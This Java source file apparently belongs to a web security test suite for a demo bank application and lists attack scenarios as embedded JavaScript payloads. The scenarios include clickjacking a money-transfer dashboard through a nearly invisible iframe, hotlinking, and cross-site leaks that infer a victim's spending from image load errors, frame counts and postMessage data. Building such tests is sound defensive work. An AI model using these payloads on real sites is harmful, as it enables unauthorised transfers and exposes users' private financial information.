package dev.cordon.examples.bank.evil;

import static dev.cordon.examples.bank.evil.Draft.fromEvil;
import static dev.cordon.examples.bank.evil.Draft.fromSibling;
import static dev.cordon.examples.bank.evil.Witnesses.reported;
import static dev.cordon.examples.bank.evil.Witnesses.served;

import java.util.List;

/** Pages that frame, embed, and learn secrets from whether something loads. */
final class EmbedAttacks {

  private EmbedAttacks() {}

  static List<Attack> list() {
    return List.of(
        fromSibling("R21-framing", "Frames the dashboard, to have its buttons clicked unseen")
            .does(
                """
                await within(3000, element('iframe',
                  {src: T + '/dashboard?to=mallory&amount=1000', style: 'opacity: .1'}));
                """)
            .worksIf(
                served(
                    visit ->
                        visit.path().equals("/dashboard")
                            && visit.user().equals("alice")
                            && visit.destination().equals("iframe"))),
        fromEvil("R21-hotlink", "Shows the bank's logo as its own")
            .victim(Victim.LOGGED_OUT)
            .does(
                """
                const image = new Image();
                const loaded = new Promise(settle => {
                  image.onload = () => settle(image.naturalWidth);
                  image.onerror = () => settle(0);
                });
                image.src = T + '/images/logo.png?' + Math.random();
                document.body.append(image);
                await loot('picture of width ' + await within(3000, loaded));
                """)
            .worksIf(reported("picture of width 64")),
        fromSibling("R21-film", "Plays the film on its own page")
            .does(
                """
                const video = Object.assign(document.createElement('video'),
                  {muted: true, preload: 'auto'});
                const loaded = new Promise(settle => {
                  video.onloadeddata = () => settle(video.videoWidth);
                  video.onerror = () => settle(0);
                });
                video.src = T + '/film.mp4';
                document.body.append(video);
                await loot('film of width ' + await within(3000, loaded));
                """)
            .worksIf(reported("film of width 160")),
        fromSibling("R21-status", "Learns from load or error where the visitor spent money")
            .does(
                """
                const probe = place => within(3000, element('img', {src: T + '/receipts/' + place}));
                const clinic = await probe('Clinic'), casino = await probe('Casino');
                await loot(clinic === casino ? 'no difference' : 'spent money at the clinic');
                """)
            .worksIf(reported("spent money at the clinic")),
        fromSibling("R21-frame-count", "Counts the frames of a framed search")
            .does(
                """
                const count = async q => {
                  await within(3000, element('iframe', {src: T + '/statement?q=' + q}));
                  return frames[frames.length - 1].length;
                };
                const clinic = await count('Clinic'), casino = await count('Casino');
                await loot(clinic === casino ? 'no difference' : 'spent money at the clinic');
                """)
            .worksIf(reported("spent money at the clinic")),
        fromEvil("R21-popup-frame-count", "Counts the frames of a search in a window of its own")
            .does(
                """
                const tick = () => fetch('/tick', {cache: 'no-store'}); // no timers in the background
                const count = async q => {
                  const popup = window.open(T + '/statement?q=' + q, '_blank', 'popup,width=300');
                  const from = performance.now();
                  let most = 0;
                  while (popup && most === 0 && performance.now() - from < 1000) {
                    await tick();
                    most = popup.closed ? 0 : popup.length;
                  }
                  if (popup) popup.close();
                  return most;
                };
                const clinic = await count('Clinic'), casino = await count('Casino');
                await loot(clinic === casino ? 'no difference' : 'spent money at the clinic');
                """)
            .worksIf(reported("spent money at the clinic")),
        fromSibling("R23-widget-message", "Frames a widget that tells everything to its parent")
            .does(
                """
                const told = new Promise(settle => onmessage = message => {
                  if (message.origin === T) settle(JSON.stringify(message.data));
                });
                element('iframe', {src: T + '/widget'});
                const data = await within(3000, told);
                if (data) await loot(data);
                """)
            .worksIf(Witnesses.accountStolen()));
  }
}
